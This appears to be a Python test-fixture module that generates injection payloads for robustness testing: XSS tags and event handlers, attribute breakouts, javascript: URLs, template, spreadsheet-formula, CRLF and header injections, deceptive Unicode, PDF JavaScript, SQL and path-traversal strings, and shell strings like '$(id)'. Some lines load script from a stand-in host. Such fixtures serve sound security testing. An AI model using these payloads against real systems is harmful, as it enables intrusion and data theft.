"""Texts that somebody hopes will be taken for something else than text. Each calls `ran()` where it is code that runs.

Built from what parsers look for, not copied from a collection: tags by events, attributes by quotes, addresses by schemes, and so on.
"""
import re


def tags():
    yield "<script>ran()</script>"
    yield "<script src=//payload.example/x.js></script>"
    yield "<script type=module>ran()</script>"
    yield "</script><script>ran()</script>"
    yield "<SCRIPT\t>ran()</SCRIPT\n>"
    yield "<scr<script>ipt>ran()</scr</script>ipt>"
    for tag, event in (("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
                       ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
                       ("marquee", "onstart"), ("object data=x", "onerror"), ("iframe src=/", "onload"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
                       ("svg><animate attributeName=x dur=1s", "onbegin"), ("math><mtext><img src=x", "onerror"), ("p style=animation:x", "onanimationstart"),
                       ("button popovertarget=x autofocus", "onfocus"), ("form><input type=image src=x", "onerror"), ("dialog open", "onbeforetoggle"),
                       ("x contenteditable autofocus", "onfocus"), ("noscript><img src=x", "onerror"), ("template><img src=x", "onerror")):
        yield f"<{tag} {event}=ran()>"
    yield "<iframe srcdoc='<script>parent.ran()</script>'></iframe>"
    yield "<base href=//payload.example/>"
    yield "<meta http-equiv=refresh content='0;url=javascript:ran()'>"
    yield "<object data=javascript:ran()></object>"
    yield "<embed src=javascript:ran()>"
    yield "<svg><script>ran()</script></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg onload=ran()>#x'/></svg>"
    yield "<![CDATA[<script>ran()</script>]]>"
    yield "<!--><script>ran()</script>-->"
    yield "<?xml version=1?><script>ran()</script>"
    yield "<textarea></textarea><img src=x onerror=ran()>"
    yield "</title><img src=x onerror=ran()>"
    yield "<plaintext><img src=x onerror=ran()>"


def attributes():
    for quote in ('"', "'", "`", "", "&quot;", "&#34;", "\\\"", "\\'"):
        yield f"{quote} onmouseover=ran() x={quote}"
        yield f"{quote}><img src=x onerror=ran()>"
    yield '" autofocus onfocus=ran() x="'
    yield "x' style='background:url(javascript:ran())'"
    yield '" formaction=javascript:ran() "'
    yield '"/onpointerenter=ran()//'
    yield "%22%3E%3Cimg%20src%3Dx%20onerror%3Dran()%3E"
    yield "&lt;img src=x onerror=ran()&gt;"
    yield "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;"
    yield "\u003cimg src=x onerror=ran()\u003e"
    yield "\\u003cscript\\u003eran()\\u003c/script\\u003e"
    yield "\uff1cscript\uff1eran()\uff1c/script\uff1e"


def addresses():
    for scheme in ("javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", " javascript:ran()", "\x01javascript:ran()", "javascript\n:ran()",
                   "javascript://payload.example/%0Aran()", "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
                   "vbscript:ran()", "file:///etc/passwd", "//payload.example/", "\\\\payload.example\\x", "https://payload.example@127.0.0.1/",
                   "blob:http://x/1", "view-source:javascript:ran()", "[klik](javascript:ran())", "![x](x\"onerror=\"ran())", "<javascript:ran()>"):
        yield scheme


def templates():
    for text in ("{{constructor.constructor('ran()')()}}", "{{7*7}}", "${ran()}", "${{7*7}}", "#{ran()}", "<%= ran() %>", "{%raw%}{{ran()}}", "{{{ran()}}}",
                 "{name}", "{company} {whatsapp} {legal}", "{{#x}}{{/x}}", "[[ran()]]", "$(ran)", "`ran()`", "__proto__", "constructor.prototype.ran=1"):
        yield text


def formulas():
    for text in ("=1+1", "=HYPERLINK(\"http://payload.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
                 "\uff1d1+1", "\uff0b1", "\uff201", "\u200b=1+1", "\";=1+1;\"", "\",=1+1,\"", "'=1+1", "%0A=1+1"):
        yield text


def lines():
    for text in ("a\r\nSet-Cookie: x=1", "a\nLocation: //payload.example", "a\r\n\r\n<script>ran()</script>", "a\rX-A: 1", "%0d%0aSet-Cookie:x=1",
                 "\u560a\u560dSet-Cookie:x=1", "Subject: x\r\nBcc: a@payload.example", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b",
                 "data: x\n\nevent: state\ndata: {}\n\n", "a\n\nid: 999999\n", "a\nretry: 1\n", "\n: ping\n", "event: done",
                 "2026-11-25T00:00:00.000Z info forged", "a\n2026-11-25T00:00:00+0000 error frontdesk: forged", "a\n127.0.0.1 - - \"GET /forged\" 200",
                 "a\n{\"sequence\":1,\"type\":\"erased\"}", "x\" 200 5 \"-\" \"forged", "frontdesk_forged 1", "a\nfrontdesk_forged{x=\"1\"} 1\n", "\",x=\"", "\\"):
        yield text


def letters():
    for text in ("\u202eran()\u202c", "abc\u202e<tpircs>", "\u2066x\u2069\u2067y", "\u200ea\u200fb", "a\u061cb", "a\u200bb\u200cc\u200dd", "\ufeff<b>x", "\u2060x",
                 "a\u00adb", "\U000e0001\U000e0061", "\u0301\u0301\u0301x", "Z\u0351\u0352\u0353\u0354", "\ufdfa", "\U0001f469\u200d\U0001f4bb", "\u0000x",
                 "\x1b[31mmerah\x1b]8;;http://payload.example\x07", "\x08\x08\x08x", "\x7f", "\u180e", "\u3164", "\ud7ff", "\ue000", "\ufffe", "I\u0307", "\u01c6"):
        yield text


def papers():
    for text in ("(ran()) Tj", ") /OpenAction << /S /JavaScript /JS (ran()) >>", "endstream endobj", "<< /URI (javascript:ran()) >>", "\\051 Tj", "%PDF-1.7",
                 "<span foreground='red'>x</span>", "<b>tebal", "&lt;", "</markup>"):
        yield text


def queries():
    for text in ("' OR 1=1 --", "{\"$gt\":\"\"}", "$where: ran()", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "|| ran", "; ls", "$(id)", "\\u0000", "null", "NaN"):
        yield text


KINDS = {function.__name__: list(function()) for function in (tags, attributes, addresses, templates, formulas, lines, letters, papers, queries)}
ALL = [text for texts in KINDS.values() for text in texts]


def one_line(text):
    """As a header may carry it; a user agent with a line feed could not be sent at all."""
    return re.sub(r"[\x00-\x1f\x7f]", " ", text).encode("utf-8").decode("latin-1").strip() or "x"
